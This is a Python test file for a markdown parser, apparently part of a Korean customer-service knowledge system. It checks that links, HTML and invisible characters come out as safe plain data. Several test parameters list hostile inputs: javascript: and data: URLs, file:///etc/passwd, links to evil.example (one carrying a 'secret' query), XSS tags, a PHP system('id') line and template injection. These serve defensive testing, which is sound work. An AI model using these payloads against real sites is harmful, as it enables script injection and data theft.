"""Markdown written to harm: nothing but plain data comes out, of bounded depth, and no word is lost."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from service.knowledge.markup import MAX_DEPTH, Node, nodes_as_data, parse_markup, plain_text
from service.knowledge.urls import is_allowed_url

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator

BLOCKS = {"paragraph", "heading", "list", "quote", "code_block", "rule"}
INLINES = {"text", "strong", "emphasis", "code", "link", "break"}
CHILDREN = {
    **dict.fromkeys(["paragraph", "heading", "strong", "emphasis"], INLINES),
    "link": INLINES - {"link"},
    "list": {"item"},
    **dict.fromkeys(["item", "quote"], BLOCKS),
}
HIDDEN = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\ud800-\udfff]"
)
TAGS = re.compile("[\U000e0000-\U000e007f]")


def all_of(nodes: Iterable[Node], depth: int = 1) -> Iterator[tuple[Node, int]]:
    for node in nodes:
        yield node, depth
        yield from all_of(node.children, depth + 1)


def assert_sound(nodes: tuple[Node, ...]) -> None:
    """Everything that a client is promised about nodes."""
    json.dumps(nodes_as_data(nodes)).encode()
    assert {node.type for node in nodes} <= BLOCKS
    for node, depth in all_of(nodes):
        assert depth <= MAX_DEPTH + 1
        assert {child.type for child in node.children} <= CHILDREN.get(node.type, set())
        assert bool(node.children) == (node.type in CHILDREN) or node.type == "item"
        assert bool(node.text) == (node.type in {"text", "code", "code_block"})
        assert not HIDDEN.search(node.text)
        assert not TAGS.search(node.text)
        assert node.type == "code_block" or "\n" not in node.text
        assert (node.url is not None) == (node.type == "link")
        assert node.url is None or is_allowed_url(node.url)
        assert (node.level in range(1, 7)) == (node.type == "heading")


def links(nodes: tuple[Node, ...]) -> list[str]:
    return [node.url for node, _ in all_of(nodes) if node.url]


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "java&#x0A;script:alert(1)",
        "\x01javascript:alert(1)",
        "&#106;avascript:alert(1)",
        "javascript&colon;alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/png;base64,iVBORw0KGgo=",
        "file:///etc/passwd",
        "blob:https://a.kr/x",
        "//evil.example/x",
        "/relative",
        "#fragment",
        "https:evil.example",
        "https:///evil.example",
        "https://bank.example@evil.example/",
        "https://a.kr\\@evil.example",
        "https://[::1",
        "https://a.kr:99999/",
        "https://a.kr/\u202egnp.exe",
        "tel:*#06#",
        "tel:**21*0101234#",
        "mailto:",
        "sms:123",
        "https://a.kr/" + "x" * 2000,
    ],
)  # fault 38, T23
def test_a_link_elsewhere_keeps_its_words_and_leads_nowhere(url: str) -> None:
    for markup in (
        f"[누르세요]({url}) 끝",
        f"[누르세요](<{url}>) 끝",
        f"<{url}> 누르세요 끝",
        f"![누르세요]({url}) 끝",
    ):
        nodes = parse_markup(markup)

        assert_sound(nodes)
        assert not [link for link in links(nodes) if "evil" in link or not link.startswith("https://a.kr")]
        assert "누르세요" in plain_text(nodes)
        assert plain_text(nodes).endswith("끝")


def test_an_image_is_never_fetched() -> None:  # T23
    nodes = parse_markup("![a](https://evil.example/?q=secret) ![b][ref]\n\n[ref]: https://evil.example/")

    assert all(node.type in {"paragraph", "text", "link"} for node, _ in all_of(nodes))
    assert links(parse_markup("![a](https://evil.example/?q=secret)")) == []


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "</textarea><script>alert(1)</script>",
        "<!--><script>alert(1)</script-->",
        "<a href='javascript:alert(1)'>x</a>",
        "<![CDATA[<script>]]>",
        "<?php system('id') ?>",
        "{{constructor.constructor('alert(1)')()}}",
    ],
)  # fault 38
def test_html_is_only_text(html: str) -> None:
    assert parse_markup(html) == (Node("paragraph", children=(Node("text", html),)),)
    assert plain_text(parse_markup(f"- {html}")) == html


def test_nothing_invisible_is_left_in_any_text() -> None:  # fault 35
    hidden = "\x1b[31m\x1b]8;;https://evil.example\x07\x9b1m\x00\x07\x85\u202e\u2066\u200b\u200f\ufeff\U000e0041\ud800"
    nodes = parse_markup(f"a{hidden}b `c{hidden}d` [e{hidden}f](https://a.kr)\n\n```x{hidden}\ng{hidden}h\n```")

    assert_sound(nodes)
    assert plain_text(nodes) == "a\n\ufffdb c \ufffdd e\n\ufffdf\n\ufffd\ng\n\ufffdh"


def test_an_entity_cannot_bring_back_what_was_removed() -> None:  # fault 35
    nodes = parse_markup("a&#x202e;b&#27;[31m&#0;c&#xd800;d&#10;e `&#x202e;`")

    assert_sound(nodes)
    assert plain_text(nodes) == "ab\ufffd[31m\ufffdc\ufffdd e &#x202e;"


def test_emoji_made_of_several_characters_stay_whole() -> None:
    assert plain_text(parse_markup("👨‍👩‍👧‍👦 ❤️ 🇰🇷")) == "👨‍👩‍👧‍👦 ❤️ 🇰🇷"


@pytest.mark.parametrize(
    "unit",
    [
        *("[", "![", "[a](", "[](", "[a](<b", "[a](http://", "[x](http://[::1", "[[a]", "[`a`", "<", "<a@b>", "<http:"),
        *("*", "**a ", "*a_ ", "a**b", "_", "😀*", "`", "`a ", "```\n", "~", "~~~", "&", "&amp;", "&#x", "#", "# a\n"),
        *(">", "> a\n", "> ", "> - a\n", "> -\n    * ", "- ", "* a\n", "- - - - a\n", "1. ", "1. a\n- a\n", "---\n"),
        *("\\", "\n", "a\n\n", "https://a.b/c ", "\x1b[31m", "\u202e", "\x00", " ", "\t", "a", "한", "|"),
    ],
)  # fmt: skip # T32
def test_64_kib_of_one_thing_is_a_small_sound_tree(unit: str) -> None:
    nodes = parse_markup("시작 " + unit * (65_536 // len(unit)) + " 끝")

    assert_sound(nodes)
    assert sum(1 for _ in all_of(nodes)) <= 6_000
    assert re.sub(r"\W", "", plain_text(nodes)).startswith("시작")


@pytest.mark.parametrize("nest", ["> ", "- ", "1. ", "> - "])
def test_what_is_nested_deeper_than_anybody_reads_keeps_its_words(nest: str) -> None:
    nodes = parse_markup(nest * 300 + "마지막 말")

    assert_sound(nodes)
    assert plain_text(nodes).endswith("마지막 말")


def test_emphasis_in_emphasis_has_an_end() -> None:
    nodes = parse_markup("*" * 900 + "말" + "*" * 900)

    assert_sound(nodes)
    assert plain_text(nodes) == "말"


def test_a_long_honest_answer_keeps_its_form() -> None:
    part = (
        "## 반품\n\n**7일** 이내에 [신청](https://example.com/r)하세요.\n\n- 단순 변심: 왕복 배송비\n- 불량: 무료\n\n"
    )

    nodes = parse_markup(part * 90)

    assert [node.type for node in nodes] == ["heading", "paragraph", "list"] * 90


MARKS = [
    "*",
    "**",
    "_",
    ">",
    "> ",
    "- ",
    "1. ",
    "#",
    "# ",
    "[",
    "]",
    "!",
    "\\",
    "<",
    "|",
    "\n",
    "\n\n",
    "  \n",
    "    ",
    "\t",
    " ",
]


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from([*MARKS, "말"]), max_size=60))
def test_every_word_stays_and_in_its_place(pieces: list[str]) -> None:
    words = iter(f"말{number}." for number in range(len(pieces)))
    markup = "".join(next(words) if piece == "말" else piece for piece in pieces)

    nodes = parse_markup(markup)

    assert_sound(nodes)
    assert re.findall(r"말\d+", plain_text(nodes)) == re.findall(r"말\d+", markup)


@settings(max_examples=500, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [*MARKS, *"`~&:()\"'=+-.1a한😀", "```", "~~~", "](", "https://a.kr", "&amp;", "&#x202e;", "\x1b["]
        )
        | st.text(max_size=5),
        max_size=40,
    ).map("".join)
)
def test_any_text_is_a_sound_tree(markup: str) -> None:
    assert_sound(parse_markup(markup))


def test_naughty_strings_are_sound() -> None:  # faults 35 to 38
    corpus = Path(__file__).parents[3] / "shared" / "eval" / "robustness.jsonl"
    if not corpus.exists():
        pytest.skip("the naughty strings are kept outside the repository")

    for line in corpus.read_text(encoding="utf-8").strip().split("\n"):
        assert_sound(parse_markup(json.loads(line)["text"]))
